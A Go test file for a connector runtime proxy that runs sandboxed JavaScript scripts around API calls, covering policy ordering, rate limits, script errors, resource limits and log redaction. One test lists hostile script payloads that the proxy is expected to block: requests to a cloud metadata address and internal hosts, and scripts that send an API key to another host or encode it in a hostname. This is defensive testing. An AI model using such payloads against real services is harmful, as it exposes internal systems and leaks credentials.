package runtimeproxy_test

import (
	"context"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	connectorv1 "github.com/ferrule-dev/ferrule/gen/go/ferrule/connector/v1"
	runtimev1 "github.com/ferrule-dev/ferrule/gen/go/ferrule/runtime/v1"
	vaultv1 "github.com/ferrule-dev/ferrule/gen/go/ferrule/vault/v1"
	"github.com/ferrule-dev/ferrule/pkg/fault"
	"github.com/ferrule-dev/ferrule/pkg/service"
	runtimeproxy "github.com/ferrule-dev/ferrule/services/runtime-proxy"
)

// coding starts one more runtime, with other settings, and returns the way to it.
func (s *suite) coding(change func(*settings)) runtimev1.RuntimeServiceClient {
	s.t.Helper()
	cfg := defaults()
	change(&cfg)
	other, err := runtimeproxy.New(s.env, cfg)
	must(s.t, err)
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- other.Run(ctx) }()
	s.t.Cleanup(func() {
		cancel()
		if err := <-done; err != nil {
			s.t.Errorf("Run: %v", err)
		}
	})
	return runtimev1.NewRuntimeServiceClient(s.serve(service.Runtime, service.Gateway, s.env.Log, s.env.Verifier, other.Register))
}

// checkReason compares the reason of a fault, and looks for what it must not hold.
func checkReason(t *testing.T, err error, want fault.Reason) *fault.Error {
	t.Helper()
	f := fault.From(err)
	if err == nil || f.Reason() != want {
		t.Fatalf("error = %v (%v), want %v", err, f.Reason(), want)
	}
	if leaks(fmt.Sprint(f.Message(), f.Meta(), err)) {
		t.Errorf("the error shows the secret: %v", err)
	}
	return f
}

func TestScriptsComeAfterCredentialsAndPolicies(t *testing.T) {
	a := newScripted(t, nil, "X-Seen", "X-Code")
	s := startCode(t, a.url, `
		export function before(request) { request.headers.set('X-Code', 'code saw ' + request.headers.get('X-Seen')) }
		export function after(response, ctx, request) {
			response.headers.set('X-Code', 'code saw ' + response.headers.get('X-Answer') + ' to ' + request.method)
		}`)
	s.registry.change(func(r *registry) {
		header := func(section connectorv1.PolicySection, name, value string) *connectorv1.Policy {
			return &connectorv1.Policy{TemplateId: "setheader", Section: section, Parameters: []*connectorv1.PolicyParameter{
				{Name: "name", Json: []byte(name)}, {Name: "value", Json: []byte(value)},
			}}
		}
		r.definition.Policies = []*connectorv1.Policy{
			header(connectorv1.PolicySection_POLICY_SECTION_REQUEST, `"X-Seen"`, `"the policy saw @headers('X-Api-Key')"`),
			header(connectorv1.PolicySection_POLICY_SECTION_RESPONSE, `"X-Answer"`, `"the policy's answer"`),
		}
	})
	got, err := s.invoke("ListItems", "")
	must(t, err)
	want := []string{"GET /api/items?limit=20 | X-Seen: the policy saw " + canary + " | X-Code: code saw the policy saw " + canary}
	if diff := cmp.Diff(want, a.sent()); diff != "" {
		t.Errorf("sent (-want +got):\n%s", diff)
	}
	if answer := shown(got, "X-Code"); answer != `200 | X-Code: code saw the policy's answer to GET | {"ok":true}` {
		t.Errorf("answer = %s", answer)
	}
}

func TestScriptsForSomeOperationsLeaveTheOthersAlone(t *testing.T) {
	a := newScripted(t, nil)
	s := startCode(t, a.url, `export function after(response) { response.setJson('by code') }`, "ListItems")
	for operation, want := range map[string]string{"ListItems": `200 | "by code"`, "Search": `200 | {"ok":true}`} {
		got, err := s.invoke(operation, "")
		must(t, err)
		if answer := shown(got); answer != want {
			t.Errorf("answer of %s = %s", operation, answer)
		}
	}
}

func TestScriptsThatAnswerThemselves(t *testing.T) {
	for _, row := range []struct{ name, source, want string }{
		{"instead of the call", `export const handle = (request) => ({status: 203, json: new URL(request.url).pathname})`, `203 | "/api/items"`},
		{"before it", `export function before() { return new Response({status: 204}) }`, `204 | `},
		{
			"before it, and once more after",
			`export function before() { return new Response({json: 1}) } export function after(response, ctx, request) { response.setJson([response.json(), new URL(request.url).pathname]) }`,
			`200 | [1,"/api/items"]`,
		},
	} {
		t.Run(row.name, func(t *testing.T) {
			a := newScripted(t, nil)
			got, err := startCode(t, a.url, row.source).invoke("ListItems", "")
			must(t, err)
			if answer := shown(got); answer != row.want || len(a.sent()) != 0 {
				t.Errorf("answer = %s, sent %q", answer, a.sent())
			}
		})
	}
}

// TestWhatScriptsSendIsJudged: by the check of hosts, by the guard and by the limits,
// as every request is.
func TestWhatScriptsSendIsJudged(t *testing.T) {
	stranger := newScripted(t, nil)
	unbound := func(c *vaultv1.Credential) { c.Secrets, c.AllowedHosts = nil, nil }
	for _, row := range []struct {
		name, source string
		lend         func(*vaultv1.Credential)
		reason       fault.Reason
	}{
		{"the metadata of a cloud", `export const handle = () => send('http://169.254.169.254/latest/meta-data/')`, nil, fault.ReasonHostNotAllowed},
		{"the same, with no secret to protect", `export const handle = () => send('http://169.254.169.254/latest/meta-data/')`, unbound, fault.ReasonEgressRefused},
		{"an address in other digits", `export const handle = () => send('http://[::ffff:169.254.169.254]/')`, unbound, fault.ReasonEgressRefused},
		{"a machine of ours", `export const handle = () => send('http://10.0.0.1:4222/')`, unbound, fault.ReasonEgressRefused},
		{"another host", `export const handle = (r) => { const u = new URL(r.url); u.host = '` + stranger.host() + `'; return send(u) }`, nil, fault.ReasonHostNotAllowed},
		{"the secret to another host", `export const handle = (r, ctx) => send('` + stranger.url + `?k=' + ctx.connection.parameter('api_key'))`, nil, fault.ReasonHostNotAllowed},
		{"another name of the same address", `export const handle = (r) => { r.headers.set('Host', 'evil.example.com'); return send(r) }`, nil, fault.ReasonHostNotAllowed},
		{"the call itself sent elsewhere", `export function before(r) { r.url = '` + stranger.url + `/' }`, nil, fault.ReasonHostNotAllowed},
		{"the secret as a host", `export const handle = (r, ctx) => send('http://' + ctx.connection.parameter('api_key') + '.example.com/')`, nil, fault.ReasonHostNotAllowed},
	} {
		t.Run(row.name, func(t *testing.T) {
			a := newScripted(t, nil)
			s := startCode(t, a.url, row.source)
			if row.lend != nil {
				s.registry.change(func(r *registry) { r.definition.ParameterSets[0].Placements = nil })
				s.vault.change(row.lend)
			}
			_, err := s.invoke("ListItems", "")
			checkReason(t, err, row.reason)
			if len(a.sent())+len(stranger.sent()) != 0 {
				t.Errorf("sent %q and %q", a.sent(), stranger.sent())
			}
		})
	}
}

func TestEverySendOfAScriptTakesOfTheLimits(t *testing.T) {
	a := newScripted(t, nil)
	s := startCode(t, a.url, `export function handle(request) {
		const seen = []
		for (let i = 0; i < 5; i++) {
			try { seen.push(send(request).status) } catch (e) { if (request.operationId === 'ListItems') throw e; seen.push(e.name) }
		}
		return {status: 200, json: seen}
	}`)
	s.registry.change(func(r *registry) {
		r.definition.RateLimits = []*connectorv1.RateLimit{{Scope: connectorv1.RateLimitScope_RATE_LIMIT_SCOPE_CONNECTION, Calls: 3, PeriodSeconds: 60}}
	})
	got, err := s.invoke("Search", "")
	must(t, err)
	if answer := shown(got); answer != `200 | [200,200,200,"HostError","HostError"]` {
		t.Errorf("answer = %s", answer)
	}
	_, err = s.invoke("ListItems", "")
	if wait, ok := checkReason(t, err, fault.ReasonRateLimited).Retry(); !ok || wait <= 0 {
		t.Errorf("wait = %v, %v", wait, ok)
	}
	if len(a.sent()) != 3 {
		t.Errorf("sent %q", a.sent())
	}
}

func TestRedirectsAreAnswersToScripts(t *testing.T) {
	a := newScripted(t, func(w http.ResponseWriter, _ *http.Request, _ string) {
		reply(w, http.StatusFound, "", "Location", "http://169.254.169.254/")
	})
	s := startCode(t, a.url, `export function handle(request) { const r = send(request); return {status: 200, json: [r.status, r.headers.get('Location')]} }`)
	got, err := s.invoke("ListItems", "")
	must(t, err)
	if answer := shown(got); answer != `200 | [302,"http://169.254.169.254/"]` || len(a.sent()) != 1 {
		t.Errorf("answer = %s, sent %q", answer, a.sent())
	}
}

func TestScriptsThatCannotBeRun(t *testing.T) {
	for _, row := range []struct {
		name, language, source string
		reason                 fault.Reason
		meta                   map[string]string
	}{
		{"a mistake in the language", "javascript", "export function before(request) {\n  request.url = = 1\n}", fault.ReasonScriptInvalid, map[string]string{"line": "2"}},
		{"none of the functions", "javascript", "function main() {}", fault.ReasonScriptInvalid, nil},
		{"an error of its own", "javascript", "function before(request) {\n\n  throw new Error('no ' + request.method)\n}", fault.ReasonScriptFailed, map[string]string{"line": "3", "operation": "ListItems"}},
		{"no answer", "javascript", "function handle() {}", fault.ReasonScriptFailed, map[string]string{"operation": "ListItems"}},
		{"another language", "csharp", "", fault.ReasonCustomCodeRequired, map[string]string{"operation": "ListItems"}},
	} {
		t.Run(row.name, func(t *testing.T) {
			a := newScripted(t, nil)
			s := start(t, a.url, func(d *connectorv1.Definition) {
				d.Scripts = []*connectorv1.Script{{Language: row.language, Path: "script.js", Source: row.source, OperationIds: []string{"ListItems"}}}
			})
			f := checkReason(t, second(s.invoke("ListItems", "")), row.reason)
			for name, want := range row.meta {
				if f.Meta()[name] != want {
					t.Errorf("%s = %q, want %q", name, f.Meta()[name], want)
				}
			}
			if len(a.sent()) != 0 {
				t.Errorf("sent %q", a.sent())
			}
			must(t, second(s.invoke("GetItem", `{"id":"1"}`))) // which has no code
		})
	}
}

func TestScriptsThatNeverEndAreStopped(t *testing.T) {
	a := newScripted(t, nil)
	s := startCode(t, a.url, `export function before(request) {
		const what = new URL(request.url).searchParams.get('state')
		if (what === 'loop') for (;;);
		const kept = []
		for (let i = 0; what === 'memory' && i < 1024; i++) kept.push(new Uint8Array(1 << 20).fill(1))
	}`)
	other := s.coding(func(c *settings) { c.ScriptTime, c.ScriptWorkers = time.Second, 1 })
	call := func(state string) error {
		req := &runtimev1.InvokeRequest{Connection: connection, OperationId: "Search"}
		req.Input = body(`{"state":"` + state + `"}`)
		return second(other.Invoke(s.as("ada"), req))
	}
	for _, row := range []struct{ state, limit, allowed string }{{"loop", "time", "1s"}, {"memory", "memory", "67108864"}} {
		f := checkReason(t, call(row.state), fault.ReasonScriptLimitExceeded)
		if f.Meta()["limit"] != row.limit || f.Meta()["allowed"] != row.allowed || f.Code() != fault.CodeFailedPrecondition {
			t.Errorf("%s: fault = %v %v", row.state, f.Code(), f.Meta())
		}
		must(t, call("fine"))
	}
	if got := strings.Join(a.sent(), ","); got != "GET /api/search?state=fine,GET /api/search?state=fine" {
		t.Errorf("sent %s", got)
	}
}

func TestLogsOfScriptsAreForThoseWhoAsk(t *testing.T) {
	a := newScripted(t, nil)
	s := startCode(t, a.url, `
		export function before(request, ctx) { console.info('before', request.method); ctx.log.warn('key', request.headers.get('X-Api-Key')) }
		export function after(response) { console.error('after', response.status) }`)
	req := &runtimev1.InvokeRequest{Connection: connection, OperationId: "ListItems", IncludeLogs: true}
	got, err := s.runtime.Invoke(s.as("ada"), req)
	must(t, err)
	var lines []string
	for _, line := range got.GetLogs() {
		lines = append(lines, line.GetLevel()+" "+line.GetMessage())
	}
	if len(lines) != 3 || lines[0] != "info before GET" || !strings.HasPrefix(lines[1], "warn key [redacted]") || lines[2] != "error after 200" || leaks(strings.Join(lines, "")) {
		t.Errorf("logs = %q", lines)
	}
	req.IncludeLogs = false
	if got, err = s.runtime.Invoke(s.as("ada"), req); err != nil || len(got.GetLogs()) != 0 {
		t.Errorf("logs = %v, %v", got.GetLogs(), err)
	}
}

// A connector whose requests all need code has no request to test a connection with,
// unless it names an operation.
func TestAScriptedConnectorWithoutATestOperationIsNotProbed(t *testing.T) {
	asked := false
	s := start(t, api(t, func(http.ResponseWriter, *http.Request) { asked = true }), func(d *connectorv1.Definition) {
		d.ConnectionTest = nil
		d.Scripts = []*connectorv1.Script{{Language: "javascript", Source: "export function before() {}"}}
	})
	got, err := s.runtime.TestConnection(s.as("ada"), &runtimev1.TestConnectionRequest{Name: connection})
	if err != nil || !got.GetSucceeded() || asked || !strings.Contains(got.GetMessage(), "nothing was tested") {
		t.Errorf("got %v, asked = %v, %v", got, asked, err)
	}
}
